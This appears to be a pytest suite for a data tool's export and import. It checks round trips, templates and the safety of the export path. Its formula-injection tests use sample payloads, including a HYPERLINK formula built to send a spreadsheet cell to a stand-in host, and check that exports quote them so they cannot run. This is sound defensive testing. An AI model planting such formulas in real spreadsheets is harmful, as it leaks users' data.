"""Export writes what the store holds in the format import reads: exporting every kind from the
demo store and importing the files, in the load order, into a store holding only its settings gives
the same rows (the organisation included).
The shipped templates are what ``templates.py`` writes, and each imports cleanly into the demo."""

from __future__ import annotations

import io
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from qa_core.io.importer import KINDS, LOAD_ORDER, export_frame, export_kind, import_file, validate_file
from qa_core.io.importer.templates import TEMPLATE_DIR, readme_text, template_files
from qa_core.store import PROJECT_ROOT, Store
from tests.unit.test_import_support import assert_same, copy_demo, snapshot


@pytest.fixture
def demo_copy(demo_db: Path, tmp_path: Path) -> Path:
    return copy_demo(demo_db, tmp_path)


@pytest.fixture
def demo_store(demo_copy: Path) -> Iterator[Store]:
    with Store(demo_copy) as store:
        yield store



def org_only(source: Store, path: Path) -> Store:
    """A store holding only the source's settings: the organisation comes in by import too."""
    target = Store(path)
    target.insert_frames({"setting": source.query("SELECT * FROM setting")})
    return target


def recent_demo(demo_db: Path, tmp_path: Path) -> Store:
    """The demo store with only its last two months of values and audits (XLSX is slow to write)."""
    store = Store(copy_demo(demo_db, tmp_path))
    old = "(SELECT audit_id FROM audit WHERE audit_date < DATE '2026-09-01')"
    store.execute(f"DELETE FROM audit_action WHERE audit_id IN {old}")
    store.execute(f"DELETE FROM audit_area_grade WHERE audit_id IN {old}")
    store.execute(f"DELETE FROM audit_answer WHERE audit_id IN {old}")
    store.execute(f"DELETE FROM audit_escalation WHERE audit_id IN {old}")
    store.execute("DELETE FROM audit WHERE audit_date < DATE '2026-09-01'")
    store.execute("DELETE FROM indicator_value WHERE period < DATE '2026-09-01'")
    return store


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_then_import_into_an_empty_store_gives_the_same_store(demo_db: Path, tmp_path: Path, fmt: str) -> None:
    store = Store(demo_db, read_only=True) if fmt == "csv" else recent_demo(demo_db, tmp_path)
    target = org_only(store, tmp_path / "empty.duckdb")
    try:
        for kind in LOAD_ORDER:
            data = export_kind(store, kind, fmt)
            result = import_file(target, kind, data, f"{kind}.{fmt}", user="round trip")
            assert result.added == result.rows > 0, kind
        assert_same(snapshot(store), snapshot(target))
        # And a second export is byte for byte the first.
        for kind in ("values", "plan", "risks"):
            assert export_kind(target, kind, fmt) == export_kind(store, kind, fmt)
    finally:
        target.close()
        store.close()


def test_csv_export_is_the_import_format(store: Store) -> None:
    data = export_kind(store, "audits", "csv")
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads accents with the byte-order mark
    frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    required = [c.name for c in KINDS["audits"].columns if c.required]
    assert list(frame.columns[:7]) == required
    areas = store.query("SELECT DISTINCT area FROM audit_area_grade UNION SELECT DISTINCT item FROM audit_answer")
    assert set(frame.columns[16:]) == set(areas["area"])  # after the 16 columns of the format: areas and questions
    assert len(frame) == store.scalar("SELECT count(*) FROM audit")
    first = frame[frame["tier"] != "supervision"].iloc[0]  # a supervision file audit has no grade
    assert first["audit_date"][:4].isdigit() and first["overall_grade"] in {"1", "2", "3", "4"}


def test_xlsx_export_has_one_sheet_named_after_the_kind(store: Store) -> None:
    book = openpyxl.load_workbook(io.BytesIO(export_kind(store, "risks", "xlsx")), read_only=True)
    assert book.sheetnames == ["risks"]
    rows = list(book["risks"].iter_rows(values_only=True))
    assert list(rows[0]) == [c.name for c in KINDS["risks"].columns]
    assert len(rows) - 1 == store.scalar("SELECT count(*) FROM risk_review")


def test_exporting_an_empty_kind_gives_the_header_row(tmp_path: Path) -> None:
    with Store(tmp_path / "e.duckdb") as empty:
        assert export_kind(empty, "values", "csv").decode("utf-8-sig").strip() == \
            "code,period,org_unit,numerator,denominator,value"
        assert list(export_frame(empty, "plan").columns) == [c.name for c in KINDS["plan"].columns]


# -- templates -----------------------------------------------------------------------------------
def test_the_shipped_templates_are_what_templates_py_writes() -> None:
    for kind in KINDS:
        for name, data in template_files(kind).items():
            assert (TEMPLATE_DIR / name).read_bytes() == data, f"{name} is stale: run python -m qa_core templates"
    assert (TEMPLATE_DIR / "README.md").read_text(encoding="utf-8") == readme_text()
    assert sorted(p.name for p in TEMPLATE_DIR.iterdir()) == sorted(
        ["README.md", *(name for k in KINDS for name in template_files(k))])


def test_each_template_has_a_header_and_imports_cleanly_into_the_demo(demo_store: Store) -> None:
    for kind in LOAD_ORDER:
        csv_data = (TEMPLATE_DIR / f"{kind}.csv").read_bytes()
        xlsx_data = (TEMPLATE_DIR / f"{kind}.xlsx").read_bytes()
        lines = csv_data.decode("utf-8-sig").splitlines()
        assert set(KINDS[kind].required) <= set(lines[0].split(","))
        assert len(lines) >= 2
        checked = validate_file(demo_store, kind, xlsx_data, f"{kind}.xlsx")
        assert checked.ok, checked.report()
        result = import_file(demo_store, kind, csv_data, f"{kind}.csv", user="template")
        if kind == "expectations":  # the template's rules are the seed frameworks', which the demo holds
            assert result.unchanged == result.rows, result.report()
        else:
            assert result.added + result.replaced == result.rows, result.report()


def test_the_readme_documents_every_column_of_every_kind() -> None:
    text = (TEMPLATE_DIR / "README.md").read_text(encoding="utf-8")
    for kind, spec in KINDS.items():
        assert f"## `{kind}`:" in text
        for column in spec.columns:
            assert f"| `{column.name}` | {'yes' if column.required else 'no'} |" in text


# -- the command line ----------------------------------------------------------------------------
def run(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "qa_core", *args], cwd=PROJECT_ROOT, capture_output=True,
                          timeout=120, env={**os.environ})


def test_export_writes_csv_to_standard_output_and_files(demo_db: Path, store: Store, tmp_path: Path) -> None:
    shown = run("export", "risks", "--db", str(demo_db), "--format", "csv")
    assert shown.returncode == 0, shown.stderr
    assert shown.stdout == export_kind(store, "risks", "csv").removeprefix(b"\xef\xbb\xbf")
    out = tmp_path / "plan.xlsx"
    written = run("export", "plan", "--db", str(demo_db), "--format", "xlsx", "--out", str(out))
    assert written.returncode == 0, written.stderr
    assert out.read_bytes() == export_kind(store, "plan", "xlsx")
    assert f"Wrote {store.scalar('SELECT count(*) FROM plan_area') + 216 + 48 + 108:,} rows of plan" in \
        written.stderr.decode()


def test_export_from_a_missing_store_says_how_to_make_one(tmp_path: Path) -> None:
    result = run("export", "values", "--db", str(tmp_path / "nope.duckdb"))
    assert result.returncode == 1
    assert b"There is no store at" in result.stderr


# -- formulas in stored text (issue 11, finding 4) --------------------------------------------------
# Stored text and the cell written for it: a quote before a formula (and before a text already
# quoted that way); "+1" is a number to a spreadsheet, not a formula, so it goes as it is.
WRITTEN = {'=HYPERLINK("http://x?leak="&B2,"a")': '\'=HYPERLINK("http://x?leak="&B2,"a")', "+1": "+1",
           "-x": "'-x", "@SUM(1)": "'@SUM(1)", "\t=1": "'\t=1", "'=already": "''=already", " -1+2": "' -1+2",
           "\r=1": "'\r=1"}


def _sql(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formulas_in_stored_text_go_out_quoted_and_come_back_unchanged(demo_copy: Path, fmt: str) -> None:
    """Stored text that a spreadsheet would run is written with a quote in front (no formula in
    the file), and importing the export gives back the very same text: every row unchanged."""
    # An XLSX file is XML, where a carriage return reads back as a line feed: CSV only for that one.
    written = {k: v for k, v in WRITTEN.items() if fmt == "csv" or "\r" not in k}
    with Store(demo_copy) as store:
        actions = store.query("SELECT action_id FROM audit_action ORDER BY action_id LIMIT 8")["action_id"].tolist()
        risks = store.query("SELECT risk_ref FROM risk ORDER BY risk_ref LIMIT 8")["risk_ref"].tolist()
        for i, text in enumerate(written):
            store.execute(f"UPDATE audit_action SET owner = {_sql(text)}, description = {_sql(text)} "
                          f"WHERE action_id = {_sql(actions[i])}")
            store.execute(f"UPDATE risk SET title = {_sql(text)}, owner = {_sql(text)} "
                          f"WHERE risk_ref = {_sql(risks[i])}")
        before = snapshot(store)
        for kind, key, column in (("audit_actions", "action_id", "owner"), ("risks", "risk_ref", "title")):
            data = export_kind(store, kind, fmt)
            if fmt == "csv":
                frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)
                cells = frame.set_index(key)[column]
            else:
                book = openpyxl.load_workbook(io.BytesIO(data))  # formulas, if any, stay formulas
                rows = list(book[kind].iter_rows())
                names = [c.value for c in rows[0]]
                assert all(c.data_type != "f" for row in rows for c in row)
                cells = pd.Series({r[names.index(key)].value: r[names.index(column)].value for r in rows[1:]})
            ids = actions if kind == "audit_actions" else risks
            cells = cells[~cells.index.duplicated()]  # a risk has a row per quarter reviewed
            assert [cells[i] for i in ids[:len(written)]] == list(written.values()), kind
            result = import_file(store, kind, data, f"{kind}.{fmt}", user="round trip")
            assert result.unchanged == result.rows > 0 and result.added == result.replaced == 0, result.report()
        assert_same(before, snapshot(store))
        assert store.query("SELECT owner FROM audit_action WHERE action_id = ?", [actions[0]])["owner"][0] == \
            '=HYPERLINK("http://x?leak="&B2,"a")'


def test_report_csv_on_standard_output_quotes_formulas(demo_copy: Path, capsys: pytest.CaptureFixture) -> None:
    from qa_core.__main__ import main

    with Store(demo_copy) as store:
        store.execute("UPDATE team SET name = '=HYPERLINK(\"http://x\",\"a\")' WHERE team_id = 'assessment_03'")
    assert main(["report", "team", "--db", str(demo_copy), "--service", "assessment"]) == 0
    frame = pd.read_csv(io.StringIO(capsys.readouterr().out), dtype=str, keep_default_na=False)
    texts = frame.to_numpy().ravel()  # every cell, as text
    assert "'=HYPERLINK(\"http://x\",\"a\")" in set(texts)
    assert not [t for t in texts if t.lstrip()[:1] in ("=", "@")]


# -- export --out never writes over the store (issue 11, finding 7) -------------------------------
def _export(db: Path, out: Path | str, *more: str) -> int:
    from qa_core.__main__ import main

    return main(["export", "risks", "--db", str(db), "--out", str(out), *more])


def test_export_refuses_to_write_over_its_own_store(demo_copy: Path, capsys: pytest.CaptureFixture) -> None:
    before = demo_copy.read_bytes()
    assert _export(demo_copy, demo_copy) == 1
    assert "is the store" in capsys.readouterr().err
    relative = Path(os.path.relpath(demo_copy))  # the same file by another name
    assert _export(demo_copy, relative) == 1
    assert demo_copy.read_bytes() == before


def test_export_refuses_to_write_over_any_duckdb_file(demo_copy: Path, demo_db: Path, tmp_path: Path,
                                                      capsys: pytest.CaptureFixture) -> None:
    other = tmp_path / "other.db"  # a DuckDB store under another name
    other.write_bytes(demo_db.read_bytes()[:4096])
    assert _export(demo_copy, other) == 1
    assert "DuckDB" in capsys.readouterr().err
    assert other.read_bytes()[8:12] == b"DUCK"
    for name in ("new.duckdb", "qa.duckdb.wal", "NEW.DuckDB"):
        assert _export(demo_copy, tmp_path / name) == 1
        assert "DuckDB" in capsys.readouterr().err
        assert not (tmp_path / name).exists()


def test_export_refuses_a_symlink_a_folder_and_a_missing_folder(demo_copy: Path, tmp_path: Path,
                                                                capsys: pytest.CaptureFixture) -> None:
    target = tmp_path / "elsewhere.csv"
    target.write_text("keep me")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    assert _export(demo_copy, link) == 1
    assert "symbolic link" in capsys.readouterr().err
    assert target.read_text() == "keep me" and link.is_symlink()
    assert _export(demo_copy, tmp_path) == 1
    assert "is a folder" in capsys.readouterr().err
    assert _export(demo_copy, tmp_path / "no" / "such" / "risks.csv") == 1
    assert "There is no folder" in capsys.readouterr().err


def test_export_reports_a_write_failure_plainly(demo_copy: Path, capsys: pytest.CaptureFixture) -> None:
    if not Path("/proc/self").exists():
        pytest.skip("needs Linux's /proc, where nobody (not even root) can create a file")
    assert _export(demo_copy, "/proc/qa-export.csv") == 1
    err = capsys.readouterr().err
    assert err.startswith("error: Could not write /proc/qa-export.csv") and "Traceback" not in err


def test_export_refuses_a_device_or_other_special_file(demo_copy: Path, capsys: pytest.CaptureFixture) -> None:
    assert _export(demo_copy, "/dev/null") == 1  # a rename would replace the device itself
    assert "not a regular file" in capsys.readouterr().err
    assert Path("/dev/null").is_char_device()


def test_a_failed_write_leaves_the_old_file_as_it_was(demo_copy: Path, tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch,
                                                      capsys: pytest.CaptureFixture) -> None:
    out = tmp_path / "risks.csv"
    out.write_text("the old export")

    def full(*args: object, **kwargs: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", full)
    assert _export(demo_copy, out) == 1
    err = capsys.readouterr().err
    assert err.startswith(f"error: Could not write {out}") and "No space left on device" in err
    assert out.read_text() == "the old export"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["qa.duckdb", "risks.csv"]


def test_export_to_a_new_file_and_over_an_old_export_works(demo_copy: Path, tmp_path: Path) -> None:
    out = tmp_path / "risks.csv"
    assert _export(demo_copy, out) == 0
    first = out.read_bytes()
    assert first.startswith(b"\xef\xbb\xbfrisk_ref,")
    out.chmod(0o640)
    assert _export(demo_copy, out) == 0  # an old export is replaced, keeping its permissions
    assert out.read_bytes() == first and (out.stat().st_mode & 0o777) == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["qa.duckdb", "risks.csv"]
